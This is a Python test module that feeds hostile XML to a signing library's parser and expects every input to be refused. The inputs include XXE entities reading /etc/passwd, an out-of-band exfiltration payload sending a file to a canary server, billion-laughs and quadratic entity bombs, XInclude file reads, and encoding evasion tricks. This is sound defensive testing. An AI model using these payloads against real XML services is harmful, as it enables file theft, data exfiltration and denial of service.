"""Documents that use what XML offers beyond elements and text (document types, entities, encodings), and no XML."""

from __future__ import annotations

from collections.abc import Iterator

from signing.errors import XmlRefused
from signing.xml import parse
from tests.hostile.attack import Attack, Hostile, fixed
from tests.hostile.canary import canary

_DOCTYPE = "DOCTYPE"
_BODY = "<a>&x;</a>"


def parsed_alone(data: bytes) -> object:
    """Parse ``data`` while a server listens that must not be asked for anything."""
    bird = canary()
    try:
        return parse(data)
    finally:
        bird.must_be_silent()


# ---------------------------------------------------------------------- document types


def _document_types() -> Iterator[Hostile]:
    for name, text in _positions().items():
        yield fixed(name, text.encode(), _DOCTYPE)
    plain = f'<!DOCTYPE a SYSTEM "{canary().url}/a.dtd"><a/>'
    for codec in ("utf-8-sig", "utf-16"):
        yield fixed(f"in {codec}", plain.encode(codec), _DOCTYPE)
    for codec, mark in (("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff")):
        yield fixed(f"in {codec} with its mark", mark + plain.encode(codec), _DOCTYPE)
    for codec in ("utf-32", "utf-32-le", "utf-16-le", "utf-16-be", "cp037", "cp500"):
        yield fixed(
            f"in {codec}", plain.encode(codec), "not well-formed|not UTF-(8|16) text|DOCTYPE|declared"
        )
    yield Hostile("after five megabytes of comments", _late, _DOCTYPE)
    yield Hostile("after a hundred thousand instructions", _after_instructions, "tags|DOCTYPE")


def _positions() -> dict[str, str]:
    url = canary().url
    return {
        "bare": "<!DOCTYPE a><a/>",
        "with an empty subset": "<!DOCTYPE a []><a/>",
        "with a comment as its subset": "<!DOCTYPE a [<!-- nothing -->]><a/>",
        "of HTML": "<!DOCTYPE html><html/>",
        "system identifier over HTTP": f'<!DOCTYPE a SYSTEM "{url}/a.dtd"><a/>',
        "system identifier of a file": '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        "relative system identifier": '<!DOCTYPE a SYSTEM "a.dtd"><a/>',
        "public identifier": f'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}/x.dtd"><a/>',
        "after the declaration": f'<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "{url}/a.dtd"><a/>',
        "after a comment with a bracket": "<!-- > <a> --><!DOCTYPE a><a/>",
        "after a comment that quotes one": "<!-- <!DOCTYPE b> --><!DOCTYPE a><a/>",
        "after an instruction": "<?p <!-- ?><!DOCTYPE a><a/>",
        "after the shortest comment": "<!----><!DOCTYPE a><a/>",
        "after white space": "\n\t \n<!DOCTYPE a><a/>",
        "without a document": "<!DOCTYPE a>",
        "standalone": '<?xml version="1.0" standalone="yes"?><!DOCTYPE a><a/>',
        "that declares attributes": '<!DOCTYPE a [<!ATTLIST a b CDATA "1">]><a/>',
        "that declares identifiers": '<!DOCTYPE a [<!ATTLIST a b ID #IMPLIED>]><a b="x"/>',
        "that declares elements": "<!DOCTYPE a [<!ELEMENT a (b*)>]><a/>",
        "that declares a notation": f'<!DOCTYPE a [<!NOTATION n SYSTEM "{url}/n">]><a/>',
        "with an instruction inside": "<!DOCTYPE a [<?p q?>]><a/>",
        "with a bracket in its subset": "<!DOCTYPE a [<!ENTITY x ']><a>'>]><a/>",
    }


def _late() -> bytes:
    return b"<!--" + b" " * 5_000_000 + b"-->\n<!DOCTYPE a><a/>"


def _after_instructions() -> bytes:
    return b"<?p?>" * 100_000 + b"<!DOCTYPE a><a/>"


# ---------------------------------------------------------------------- entities


def _entities() -> Iterator[Hostile]:
    for name, subset in _subsets().items():
        yield fixed(name, f"<!DOCTYPE a [{subset}]>{_BODY}".encode(), _DOCTYPE)
    yield Hostile("quadratic", _quadratic, _DOCTYPE)
    yield Hostile("billion laughs in UTF-16", lambda: _laughing().encode("utf-16"), _DOCTYPE)
    yield Hostile("billion laughs in an attribute", _laughing_attribute, _DOCTYPE)
    yield Hostile("billion laughs in a default", _laughing_default, _DOCTYPE)
    for scheme in ("ftp", "gopher", "jar", "netdoc", "php", "expect", "ldap", "data", "unix", "https"):
        text = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{scheme}://127.0.0.1:{canary().port}/x">]>{_BODY}'
        yield fixed(f"external by {scheme}", text.encode(), _DOCTYPE)
    undeclared = {
        "undeclared": "<a>&x;</a>",
        "of HTML": "<a>&nbsp;</a>",
        "undeclared in an attribute": '<a b="&x;"/>',
        "without an end": "<a>&lt</a>",
        "parameter entity in the content": "<!ENTITY % x 'y'><a/>",
        "declaration in the content": "<a><!ENTITY x 'y'></a>",
        "document type in the content": "<a><!DOCTYPE a [<!ENTITY x 'y'>]>&x;</a>",
        "document type after the root": "<a/><!DOCTYPE a>",
        "conditional section": "<![INCLUDE[<a/>]]>",
        "document type in lower case": "<!doctype a [<!ENTITY x 'y'>]><a>&x;</a>",
        "reference to the null character": "<a>&#0;</a>",
        "reference to a surrogate": "<a>&#xD800;</a>",
        "reference beyond Unicode": "<a>&#x110000;</a>",
        "reference to U+FFFE": "<a>&#xFFFE;</a>",
        "reference of many digits": f"<a>&#{'9' * 10_000};</a>",
        "reference to a control character": "<a>&#8;</a>",
    }
    for name, text in undeclared.items():
        yield fixed(name, text.encode(), "not well-formed")


def _subsets() -> dict[str, str]:
    url = canary().url
    return {
        "billion laughs": _laughs(),
        "recursive": '<!ENTITY x "&x;">',
        "recursive over two": '<!ENTITY x "&y;"><!ENTITY y "&x;">',
        "parameter bomb": '<!ENTITY % p0 "xxxxxxxxxx">'
        + "".join(f'<!ENTITY % p{n} "{f"&#37;p{n - 1};" * 10}">' for n in range(1, 10))
        + "%p9;",
        "external file": '<!ENTITY x SYSTEM "file:///etc/passwd">',
        "external device": '<!ENTITY x SYSTEM "file:///dev/zero">',
        "external directory": '<!ENTITY x SYSTEM "file:///">',
        "external over HTTP": f'<!ENTITY x SYSTEM "{url}/x">',
        "external, public": f'<!ENTITY x PUBLIC "x" "{url}/x">',
        "external, relative": '<!ENTITY x SYSTEM "../../etc/passwd">',
        "external parameter": f'<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;',
        "exfiltration": f'<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; s '
        f"SYSTEM '{url}/?%f;'>\"> %e; %s;",
        "error message": '<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; r '
        "SYSTEM 'file:///no/%f;'>\"> %e; %r;",
        "unparsed": f'<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "{url}/x" NDATA n>',
        "markup from references": '<!ENTITY x "&#60;b/&#62;">',
        "predefined, declared anew": '<!ENTITY lt "&#38;#60;"><!ENTITY x "&lt;b/&lt;">',
        "harmless": '<!ENTITY x "y">',
        "twice": '<!ENTITY x "1"><!ENTITY x "2">',
        "local DTD": '<!ENTITY % l SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd"> %l;',
    }


def _laughs() -> str:
    steps = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!ENTITY x0 "ha">{steps}<!ENTITY x "&x9;">'


def _laughing() -> str:
    return f"<!DOCTYPE a [{_laughs()}]>{_BODY}"


def _laughing_attribute() -> bytes:
    return f'<!DOCTYPE a [{_laughs()}]><a b="&x;"/>'.encode()


def _laughing_default() -> bytes:
    return f'<!DOCTYPE a [{_laughs()}<!ATTLIST a b CDATA "&x;">]><a/>'.encode()


def _quadratic() -> bytes:
    return b'<!DOCTYPE a [<!ENTITY x "' + b"x" * 50_000 + b'">]><a>' + b"&x;" * 50_000 + b"</a>"


# ---------------------------------------------------------------------- encodings


def _encodings() -> Iterator[Hostile]:
    text = "<a>Nguyễn Thị Ư</a>"
    not_text, unlike = "not UTF-(8|16) text|not well-formed", "is declared"
    yield fixed("UTF-7 unannounced", b"+ADw-a+AD4-+ADw-/a+AD4-", not_text)
    yield fixed("UTF-7 with its mark", b"+/v8-+ADwAIQ-DOCTYPE a+AD4-<a/>", not_text)
    for codec in ("utf-32", "utf-32-le", "utf-32-be", "utf-16-le", "utf-16-be"):
        yield fixed(f"{codec} unannounced", text.encode(codec), not_text)
    for codec in ("cp037", "cp500", "cp1140"):
        yield fixed(
            f"EBCDIC {codec}", f'<?xml version="1.0" encoding="{codec}"?><a/>'.encode(codec), not_text
        )
    declared = (
        "UTF-7",
        "UTF-32",
        "windows-1258",
        "iso-8859-1",
        "us-ascii",
        "EBCDIC-CP-US",
        "utf8x",
        "x-none",
    )
    for name in (*declared, "UTF-16", "UCS-4", "ISO-2022-JP", "GB18030", "TCVN", "Shift_JIS", "hz-gb-2312"):
        yield fixed(
            f"{name} declared",
            f'<?xml version="1.0" encoding="{name}"?><a/>'.encode(),
            f"{unlike}|well-formed",
        )
    sixteen = f'<?xml version="1.0" encoding="UTF-8"?>{text}'
    yield fixed("UTF-16 that says UTF-8", sixteen.encode("utf-16"), unlike)
    yield fixed("UTF-8 with the mark of UTF-16", b"\xff\xfe" + text.encode(), not_text)
    yield fixed("the mark of UTF-16 and an odd byte", text.encode("utf-16") + b"\x00", not_text)
    yield fixed("two byte order marks", b"\xef\xbb\xbf" * 2 + text.encode(), "two byte order marks")
    yield fixed("two byte order marks in UTF-16", ("\ufeff" + text).encode("utf-16"), "two byte order marks")
    yield fixed(
        "encoding declared twice",
        b'<?xml version="1.0" encoding="UTF-8" encoding="UTF-7"?><a/>',
        "well-formed",
    )
    yield fixed(
        "declaration in the second line", b'\n<?xml version="1.0" encoding="UTF-7"?><a/>', "well-formed"
    )
    yield fixed("declaration in the content", b'<a><?xml version="1.0"?></a>', "well-formed")
    for name, octets in _octets().items():
        yield fixed(name, b"<a>" + octets + b"</a>", not_text)
    yield fixed("surrogate alone in UTF-16", b"\xff\xfe<\0a\0>\0\x00\xd8<\0/\0a\0>\0", not_text)
    yield fixed("surrogates swapped in UTF-16", b"\xff\xfe<\0a\0>\0\x00\xdc\x00\xd8<\0/\0a\0>\0", not_text)
    yield fixed("null character in UTF-16", "<a>\0</a>".encode("utf-16"), "well-formed")


def _octets() -> dict[str, bytes]:
    return {
        "overlong bracket of two bytes": b"\xc0\xbc!DOCTYPE b\xc0\xbe",
        "overlong bracket of three bytes": b"\xe0\x80\xbc",
        "overlong bracket of four bytes": b"\xf0\x80\x80\xbc",
        "overlong null": b"\xc0\x80",
        "surrogate in UTF-8": b"\xed\xa0\x80",
        "pair of surrogates in UTF-8 (CESU-8)": b"\xed\xa0\xbc\xed\xbf\xa0",
        "beyond Unicode": b"\xf4\x90\x80\x80",
        "five bytes": b"\xf8\x88\x80\x80\x80",
        "continuation alone": b"\x80",
        "cut short": b"\xe1\xbb",
        "null character": b"\x00",
        "U+FFFE": "\ufffe".encode(),
        "U+FFFF": "\uffff".encode(),
        "escape character": b"\x1b[31m",
        "backspace": b"12\x084",
        "vertical tab": b"\x0b",
        "byte of windows-1258": b"Nguy\xeen",
    }


# ---------------------------------------------------------------------- not XML


def _malformed() -> Iterator[Hostile]:
    texts = {
        "nothing": "",
        "white space": " \n ",
        "text": "Nguyễn",
        "JSON": '{"a": 1}',
        "two roots": "<a/><a/>",
        "text after the root": "<a/>x",
        "text before the root": "x<a/>",
        "not closed": "<a>",
        "closed in the wrong order": "<a><b></a></b>",
        "attribute twice": '<a b="1" b="2"/>',
        "attribute twice by two prefixes": '<a xmlns:p="u" xmlns:q="u" p:b="1" q:b="2"/>',
        "attribute without quotes": "<a b=1/>",
        "attribute with a bracket": '<a b="<"/>',
        "prefix not declared": "<p:a/>",
        "prefix of an attribute not declared": '<a p:b="1"/>',
        "prefix xml bound anew": '<a xmlns:xml="urn:x"/>',
        "prefix xmlns bound": '<a xmlns:xmlns="urn:x"/>',
        "prefix bound to nothing": '<a xmlns:p=""><p:b/></a>',
        "end of CDATA in text": "<a>]]></a>",
        "CDATA not closed": "<a><![CDATA[x</a>",
        "CDATA outside of the root": "<![CDATA[x]]><a/>",
        "comment with two hyphens": "<a><!-- -- --></a>",
        "comment not closed": "<a><!-- </a>",
        "instruction not closed": "<a><?p </a>",
        "instruction without a name": "<a><? ?></a>",
        "instruction called XML": "<a><?XML x?></a>",
        "name that begins with a digit": "<1a/>",
        "name with two colons": "<a:b:c xmlns:a='u'/>",
        "version 2.0 with no encoding": "<?xml version='2.0'?><a>",
        "XML 1.1 with its control characters": "<?xml version='1.1'?><a>&#1;</a>",
        "a style sheet for whoever looks at it": '<?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>',
        "a style sheet after the root": '<a/><?xml-stylesheet href="x.css"?>',
        "a style sheet inside": '<a><?xml-stylesheet href="x.css"?><b/></a>',
        "an XInclude": '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
        "an XInclude of a server": f'<include xmlns="http://www.w3.org/2001/XInclude" href="{canary().url}"/>',
        "an XInclude as text": '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="x" parse="text"/>',
        "a comment inside a value": "<a><b>1234<!-- -->5</b></a>",
        "a comment before a value": "<a><b><!-- -->12345</b></a>",
        "a comment behind a value": "<a><b>12345<!-- --></b></a>",
        "an instruction inside a value": "<a><b>1234<?p?>5</b></a>",
        "a comment in CDATA's neighbourhood": "<a><b><![CDATA[1234]]><!-- -->5</b></a>",
    }
    for name, text in texts.items():
        yield fixed(name, text.encode(), r"not well-formed|style sheet|XInclude|inside the value of <b>")
    yield Hostile("a zip archive", lambda: b"PK\x03\x04" + bytes(1000), "not well-formed|not UTF-8")
    yield Hostile("gzip", lambda: b"\x1f\x8b\x08" + bytes(1000), "not UTF-8 text")
    yield Hostile("a megabyte of nothing", lambda: bytes(1_000_000), "not well-formed")
    yield Hostile("a megabyte of brackets", lambda: b"<" * 1_000_000, "tags")
    yield Hostile("a megabyte of ampersands", lambda: b"<a>" + b"&" * 1_000_000, "not well-formed")


DOCUMENT_TYPES = Attack(_document_types, parsed_alone, XmlRefused)
ENTITIES = Attack(_entities, parsed_alone, XmlRefused)
ENCODINGS = Attack(_encodings, parsed_alone, XmlRefused)
MALFORMED = Attack(_malformed, parsed_alone, XmlRefused)
